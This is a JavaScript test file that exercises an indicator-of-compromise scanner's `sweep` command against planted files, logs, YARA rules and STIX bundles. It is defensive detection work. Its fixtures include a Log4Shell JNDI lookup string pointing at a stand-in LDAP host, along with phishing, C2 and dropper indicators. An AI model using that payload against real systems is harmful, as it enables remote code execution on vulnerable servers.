// `ungcuu sweep` end to end through the binary, with no server: a temporary
// tree with planted files and log lines (plain, gzip, syslog, JSON lines),
// rules from the YARA fixtures (tests/data/sweep, see its README for their
// sources), the OASIS STIX example bundle, a bundle and a plain list of our
// own. Checks every JSON line, the table, the exit codes (1 hits, 0 none,
// 2 errors), refused rules named with their position, unreadable files
// reported (as an unprivileged user when the tests run as root), links,
// --max-size and the usage errors.
import assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import {
  chmodSync, copyFileSync, mkdirSync, mkdtempSync, rmSync, symlinkSync, writeFileSync,
} from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { gzipSync } from 'node:zlib';
import { root } from '../lib/server.mjs';
import { run, test, after, before } from './helpers.mjs';

const EN = { UNGCUU_LANG: 'en', LANG: 'C.UTF-8' };
const data = join(root, 'tests', 'data', 'sweep');
const dir = mkdtempSync(join(tmpdir(), 'ungcuu-sweep-'));
const tree = join(dir, 'tree');
const rules = join(dir, 'rules');
after(() => rmSync(dir, { recursive: true, force: true }));

const md5 = (s) => createHash('md5').update(s).digest('hex');
const sha256 = (s) => createHash('sha256').update(s).digest('hex');

function put(rel, content, mode) {
  const p = join(tree, rel);
  mkdirSync(join(p, '..'), { recursive: true });
  writeFileSync(p, content);
  if (mode !== undefined) chmodSync(p, mode);
  return p;
}

const payload = 'class Exploit { String s = "${jndi:ldap://x.example.com:1389/Exploit}"; }\n';
const dropper = 'MZ this is not really a program, only bytes with a known hash\n';
const stixFile = 'data exfiltrated by the sample\n';

before(() => {
  mkdirSync(rules, { recursive: true });
  for (const f of ['expl_log4j_cve_2021_44228.yar', 'Win32.Ransomware.LockBit.yara',
    'indicators-for-C2-with-COA.json']) copyFileSync(join(data, f), join(rules, f));
  writeFileSync(join(rules, 'list.txt'), [
    '# indicators, one a line',
    'evil.example',
    '198.51.100.0/24',
    '2001:db8::/32',
    `${md5(dropper)}   # the dropper`,
    'filename:Invoice 2025.pdf.exe',
    'hxxp://phish[.]example/login.php',
    '',
  ].join('\n'));
  writeFileSync(join(rules, 'bundle.json'), JSON.stringify({
    type: 'bundle',
    id: 'bundle--6a6a1b2a-5d0a-4c59-9d43-4b1f7d1a9a11',
    objects: [
      {
        type: 'indicator', spec_version: '2.1', id: 'indicator--8e2e2d2b-17d4-4cbf-938f-98ee46b3cd3f',
        created: '2025-11-24T03:00:00.000Z', modified: '2025-11-24T03:00:00.000Z',
        pattern_type: 'stix', valid_from: '2025-11-24T03:00:00Z',
        pattern: `[email-addr:value = 'ceo@phish.example'] OR [file:hashes.'SHA-256' = '${sha256(stixFile)}']`,
      },
      {
        type: 'indicator', spec_version: '2.1', id: 'indicator--1f6e2d2b-17d4-4cbf-938f-98ee46b3cd3f',
        created: '2025-11-24T03:00:00.000Z', modified: '2025-11-24T03:00:00.000Z',
        pattern_type: 'stix', valid_from: '2025-11-24T03:00:00Z',
        pattern: "[domain-name:value = 'c2.example' AND network-traffic:dst_port = 443]",
      },
    ],
  }));

  put('src/Exploit.java', payload);
  put('home/user/Downloads/Invoice 2025.pdf.exe', dropper);
  put('home/user/notes.txt', 'nothing to see here: 8.8.8.8 good.example\n');
  put('tmp/out.dat', stixFile);
  put('var/log/nginx/access.log', [
    '203.0.113.7 - - [24/Nov/2025:10:00:00 +0700] "GET / HTTP/1.1" 200 612 "-" "curl/8.0"',
    '198.51.100.23 - - [24/Nov/2025:10:00:01 +0700] "GET /wp-login.php HTTP/1.1" 404 0 "http://phish.example/login.php?u=1" "Mozilla/5.0"',
    '10.0.0.0 - - [24/Nov/2025:10:00:02 +0700] "GET /beacon HTTP/1.1" 200 0 "-" "-"',
    '',
  ].join('\n'));
  put('var/log/nginx/access.log.2.gz', gzipSync([
    'line one is clean',
    '[2001:db8::7]:51234 - - "GET https://cdn.evil.example/x.js HTTP/1.1" 200',
    '',
  ].join('\n')));
  put('var/log/auth.log', [
    'Nov 24 10:00:00 web sshd[811]: Failed password for root from 192.0.2.1 port 22 ssh2',
    'Nov 24 10:00:05 web postfix/smtpd[77]: NOQUEUE: from=<CEO@Phish.Example> to=<a@b.example>',
    '',
  ].join('\n'));
  put('var/log/app/events.jsonl',
    '{"ts":"2025-11-24T03:00:00Z","src":"2001:0db8:0000:0000:0000:0000:0000:0042","q":"WWW.EVIL.EXAMPLE."}\n');
  // the same names where logs are not read: no log hits
  put('srv/data/access.txt', '198.51.100.23 evil.example\n');
  // links are not followed unless asked
  symlinkSync(join(tree, 'src'), join(tree, 'link-to-src'));
  for (const d of [dir, tree]) chmodSync(d, 0o755);
});

// The expected hits: [path relative to the tree, kind, indicator, line?].
const expected = [
  ['src/Exploit.java', 'yara', 'EXPL_Log4j_CVE_2021_44228_Dec21_Soft'],
  ['src/Exploit.java', 'yara', 'EXPL_Log4j_CVE_2021_44228_Dec21_Hard'],
  ['home/user/Downloads/Invoice 2025.pdf.exe', 'filename', 'Invoice 2025.pdf.exe'],
  ['home/user/Downloads/Invoice 2025.pdf.exe', 'hash', md5(dropper)],
  ['tmp/out.dat', 'hash', sha256(stixFile)],
  ['var/log/nginx/access.log', 'ip', '198.51.100.0/24', 2],
  ['var/log/nginx/access.log', 'url', 'http://phish.example/login.php', 2],
  ['var/log/nginx/access.log', 'ip', '10.0.0.0', 3],
  ['var/log/nginx/access.log.2.gz', 'ip', '2001:db8::/32', 2],
  ['var/log/nginx/access.log.2.gz', 'domain', 'evil.example', 2],
  ['var/log/auth.log', 'email', 'ceo@phish.example', 2],
  ['var/log/app/events.jsonl', 'ip', '2001:db8::/32', 1],
  ['var/log/app/events.jsonl', 'domain', 'evil.example', 1],
];

const key = (h) => [h.path, h.kind, h.indicator, h.line ?? ''].join(' | ');

function sweep(args, opts = {}) {
  return run(['sweep', ...args], { env: EN, timeout: 60_000, ...opts });
}

function allRules() {
  return ['expl_log4j_cve_2021_44228.yar', 'Win32.Ransomware.LockBit.yara', 'list.txt',
    'indicators-for-C2-with-COA.json', 'bundle.json'].flatMap((f) => ['--rules', join(rules, f)]);
}

function parseLines(stdout) {
  return stdout.split('\n').filter((l) => l !== '').map((l) => JSON.parse(l));
}

test('`sweep --json` prints one JSON object a hit and exits 1', () => {
  const r = sweep([...allRules(), '--json', tree]);
  assert.equal(r.status, 1, r.stderr);
  const hits = parseLines(r.stdout);
  for (const h of hits) {
    assert.ok(h.path.startsWith(`${tree}/`), h.path);
    h.path = h.path.slice(tree.length + 1);
    assert.deepEqual(Object.keys(h).filter((k) => !['path', 'kind', 'indicator', 'line', 'match', 'sha256'].includes(k)), []);
    assert.equal(h.path_escaped, undefined);   // UTF-8 paths are given as they are
    assert.equal('line' in h, 'match' in h, JSON.stringify(h));
    assert.match(h.sha256, /^[0-9a-f]{64}$/, JSON.stringify(h));   // every file read is hashed
  }
  const want = expected.map(([path, kind, indicator, line]) => key({ path, kind, indicator, line }));
  assert.deepEqual(hits.map(key).sort(), want.sort());
  // what a log line held is given as seen
  const m = Object.fromEntries(hits.filter((h) => h.match).map((h) => [`${h.path}:${h.line}:${h.kind}`, h.match]));
  assert.equal(m['var/log/nginx/access.log:2:ip'], '198.51.100.23');
  assert.equal(m['var/log/nginx/access.log:2:url'], 'http://phish.example/login.php?u=1');
  assert.equal(m['var/log/nginx/access.log.2.gz:2:domain'], 'cdn.evil.example');
  assert.equal(m['var/log/auth.log:2:email'], 'ceo@phish.example');
  assert.equal(m['var/log/app/events.jsonl:1:ip'], '2001:0db8:0000:0000:0000:0000:0000:0042');
  // loading notes on stderr: the AND pattern skipped, the counts, the summary
  assert.match(r.stderr, /Skipped a STIX pattern the sweep cannot read: .*bundle\.json: indicator--1f6e2d2b/);
  assert.match(r.stderr, /indicators: yara 8 hash 3 ip 3 domain 1 url 1 email 1 filename 1/);
  assert.match(r.stderr, /swept 9 files .* 13 hits, 0 unreadable; skipped 0 larger than --max-size, 1 links/);
});

// The escaped form back to the bytes of the file name: \xNN a byte, \\ a
// backslash (issue #13 item 4).
function unescapePath(s) {
  const out = [];
  for (let i = 0; i < s.length;) {
    if (s[i] === '\\' && s[i + 1] === 'x') { out.push(Buffer.from([parseInt(s.slice(i + 2, i + 4), 16)])); i += 4; }
    else if (s[i] === '\\' && s[i + 1] === '\\') { out.push(Buffer.from('\\')); i += 2; }
    else { const cp = s.codePointAt(i); const ch = String.fromCodePoint(cp); out.push(Buffer.from(ch)); i += ch.length; }
  }
  return Buffer.concat(out);
}

test('paths with a newline or bytes that are not UTF-8 stay one valid JSON line and still name the file', () => {
  const odd = join(dir, 'odd');
  mkdirSync(odd);
  writeFileSync(join(odd, 'new\nline.java'), payload);
  const badName = Buffer.concat([Buffer.from('bad-\\x41-'), Buffer.from([0xff, 0xfe]),
    Buffer.from('-đ-'), Buffer.from([0xc3]), Buffer.from('.java')]);
  const badPath = Buffer.concat([Buffer.from(`${odd}/`), badName]);
  writeFileSync(badPath, payload);
  const r = sweep(['--rules', join(rules, 'expl_log4j_cve_2021_44228.yar'), '--json', odd]);
  assert.equal(r.status, 1, r.stderr);
  const hits = parseLines(r.stdout);
  assert.equal(hits.length, 4);
  const paths = [...new Set(hits.map((h) => h.path.slice(odd.length + 1)))].sort();
  assert.deepEqual(paths, ['bad-\\\\x41-\\xff\\xfe-đ-\\xc3.java', 'new\nline.java']);
  assert.ok(!r.stdout.includes('\\ufffd') && !r.stdout.includes('\ufffd'));
  for (const h of hits) {
    const escaped = h.path.includes('bad-');
    assert.equal(h.path_escaped, escaped ? true : undefined, JSON.stringify(h));
    // the escaped path reads back to the very bytes of the file's name
    if (escaped) assert.ok(unescapePath(h.path).equals(badPath), h.path);
  }
  // the table: one line a hit, the same escaped form, the newline as \x0a
  const t = sweep(['--rules', join(rules, 'expl_log4j_cve_2021_44228.yar'), '--quiet', odd]);
  assert.equal(t.status, 1, t.stderr);
  const rows = t.stdout.split('\n').filter((l) => l !== '');
  assert.equal(rows.length, 5, t.stdout);
  assert.equal(rows.filter((l) => l.endsWith(`${odd}/bad-\\\\x41-\\xff\\xfe-đ-\\xc3.java`)).length, 2, t.stdout);
  assert.equal(rows.filter((l) => l.endsWith(`${odd}/new\\x0aline.java`)).length, 2, t.stdout);
});

test('`sweep` prints a table sorted by path and line', () => {
  const r = sweep([...allRules(), '--quiet', tree]);
  assert.equal(r.status, 1, r.stderr);
  assert.doesNotMatch(r.stderr, /indicators|swept/);   // warnings only
  const rows = r.stdout.split('\n').filter((l) => l !== '');
  assert.match(rows[0], /^KIND +INDICATOR +LINE +PATH$/);
  assert.equal(rows.length, 1 + expected.length);
  const paths = rows.slice(1).map((l) => l.slice(l.indexOf(tree)));
  assert.deepEqual(paths, [...paths].sort());
  assert.match(rows.find((l) => l.includes('access.log.2.gz') && l.startsWith('domain')),
    /^domain +evil\.example +2 +\//);
  const vi = sweep([...allRules(), '--quiet', tree], { env: { UNGCUU_LANG: 'vi', LANG: 'C.UTF-8' } });
  assert.match(vi.stdout.split('\n')[0], /^LOẠI +CHỈ DẤU +DÒNG +ĐƯỜNG DẪN$/);
});

test('`sweep` exits 0 and prints nothing when nothing matches', () => {
  const r = sweep([...allRules(), '--json', join(tree, 'home', 'user', 'notes.txt'), join(tree, 'srv')]);
  assert.equal(r.status, 0, r.stderr);
  assert.equal(r.stdout, '');
  assert.match(r.stderr, /swept 2 files .* 0 hits, 0 unreadable/);
});

test('`sweep --follow-symlinks` reads through links; --max-size skips larger files', () => {
  const r = sweep(['--rules', join(rules, 'expl_log4j_cve_2021_44228.yar'), '--json', '--follow-symlinks',
    join(tree, 'src'), join(tree, 'link-to-src')]);
  assert.equal(r.status, 1, r.stderr);
  // the directory is entered once, by whichever path comes first
  assert.equal(parseLines(r.stdout).length, 2);
  const big = sweep(['--rules', join(rules, 'expl_log4j_cve_2021_44228.yar'), '--json',
    `--max-size=${payload.length - 1}`, join(tree, 'src')]);
  assert.equal(big.status, 0, big.stderr);
  assert.equal(big.stdout, '');
  assert.match(big.stderr, /Larger than --max-size, skipped: .*Exploit\.java/);
  const fits = sweep(['--rules', join(rules, 'expl_log4j_cve_2021_44228.yar'), '--json',
    '--max-size', String(payload.length), '--threads', '1', join(tree, 'src')]);
  assert.equal(fits.status, 1, fits.stderr);
});

test('a YARA rule that does not compile is refused with its line; exit 2', () => {
  writeFileSync(join(rules, 'bad.yar'), [
    'rule ok { condition: true }',
    '',
    'rule broken {',
    '  strings: $a = "abc"',
    '  condition: $a and',
    '}',
    '',
  ].join('\n'));
  const r = sweep(['--rules', join(rules, 'list.txt'), '--rules', join(rules, 'bad.yar'), '--json', tree]);
  assert.equal(r.status, 2);
  assert.equal(r.stdout, '');
  assert.match(r.stderr, /YARA rule does not compile: .*bad\.yar:6: rule broken: syntax error/);
  assert.doesNotMatch(r.stderr, /swept/);   // nothing was swept
});

test('malformed bundles, lists and events are refused naming the file and position', () => {
  const cases = [
    ['b1.json', '{"type":"bundle","objects":[{"type":"indicator","id":"indicator--1","pattern":"[ipv4-addr:value = \'1.2.3.4]"}]}',
      /.*b1\.json: \/objects\/0 \(indicator--1\): pattern, column 20: string not closed/],
    ['b2.json', '{"type":"bundle",\n "objects": [1,}', /Malformed or truncated file: .*b2\.json:2:16: /],
    ['b3.json', '{"Event":{"Attribute":{}}}', /Indicator file does not have the expected structure: .*b3\.json: \/Event: Attribute: expected an array/],
    ['b4.json', '{"something":"else"}', /Not a YARA file, STIX 2\.1 bundle, MISP event or indicator list: .*b4\.json/],
    // Lists are read as `ungcuu import list` reads them, with its messages.
    ['l1.txt', 'evil.example\n\nnot an indicator\n', /Invalid indicator value: .*l1\.txt: line 3: not an indicator .*'not an indicator'/],
    ['l2.txt', '# only a comment\n', /Nothing to look for: .*l2\.txt/],
  ];
  for (const [name, text, re] of cases) {
    writeFileSync(join(rules, name), text);
    const r = sweep(['--rules', join(rules, name), tree]);
    assert.equal(r.status, 2, `${name}: ${r.stderr}`);
    assert.match(r.stderr, re, name);
    assert.equal(r.stdout, '');
  }
  const missing = sweep(['--rules', join(rules, 'nope.txt'), tree]);
  assert.equal(missing.status, 2);
  assert.match(missing.stderr, /I\/O error: .*nope\.txt/);
});

test('unreadable files are reported and skipped; exit 2 when nothing else matched', () => {
  // As root nothing is unreadable: the sweep then runs as nobody.
  const asRoot = process.getuid() === 0;
  const who = asRoot ? { uid: 65534, gid: 65534 } : {};
  const locked = join(dir, 'locked');
  mkdirSync(join(locked, 'closed'), { recursive: true });
  writeFileSync(join(locked, 'secret.txt'), 'no one may read this');
  writeFileSync(join(locked, 'Exploit.class'), payload);
  chmodSync(join(locked, 'secret.txt'), 0o000);
  chmodSync(join(locked, 'closed'), 0o000);
  chmodSync(locked, 0o755);
  chmodSync(rules, 0o755);
  chmodSync(join(rules, 'expl_log4j_cve_2021_44228.yar'), 0o644);
  const args = ['--rules', join(rules, 'expl_log4j_cve_2021_44228.yar'), '--json'];
  const r = sweep([...args, locked], who);
  assert.equal(r.error, undefined, String(r.error));
  assert.equal(r.status, 1, r.stderr);
  assert.equal(parseLines(r.stdout).length, 2);
  assert.match(r.stderr, /Cannot read, skipped: .*locked\/secret\.txt: Permission denied/);
  assert.match(r.stderr, /Cannot read, skipped: .*locked\/closed: Permission denied/);
  assert.match(r.stderr, /2 unreadable/);
  rmSync(join(locked, 'Exploit.class'));
  const clean = sweep([...args, locked], who);
  assert.equal(clean.status, 2, clean.stderr);
  assert.equal(clean.stdout, '');
  chmodSync(join(locked, 'closed'), 0o755);
});

test('usage errors exit 2 with one line; --help exits 0', () => {
  const cases = [
    [[tree], /Missing option --rules \/ --server/],
    [['--rules', join(rules, 'list.txt')], /Missing argument: PATH/],
    [['--rules', join(rules, 'list.txt'), '--upload', 'http://x', tree], /Unknown option: --upload/],
    [['--server', 'http://127.0.0.1:9', tree], /UNGCUU_TOKEN/],
    [['--rules', join(rules, 'list.txt'), '--threads', '0', tree], /Invalid value: --threads 0/],
    [['--rules', join(rules, 'list.txt'), '--max-size', '12Q', tree], /Invalid value: --max-size 12Q/],
    [['--rules'], /Missing option --rules/],
  ];
  for (const [args, re] of cases) {
    const r = sweep(args);
    assert.equal(r.status, 2, args.join(' '));
    assert.match(r.stderr, re);
    assert.equal(r.stderr.trim().split('\n').length, 1, r.stderr);
  }
  const h = sweep(['--help']);
  assert.equal(h.status, 0);
  assert.match(h.stdout, /usage: ungcuu sweep \[--rules FILE\]\.\.\. \[--server URL\]/);
  assert.match(h.stdout, /--follow-symlinks/);
  const nonexistent = sweep(['--rules', join(rules, 'list.txt'), join(dir, 'no-such-dir')]);
  assert.equal(nonexistent.status, 2);
  assert.match(nonexistent.stderr, /Cannot read, skipped: .*no-such-dir: No such file or directory/);
});
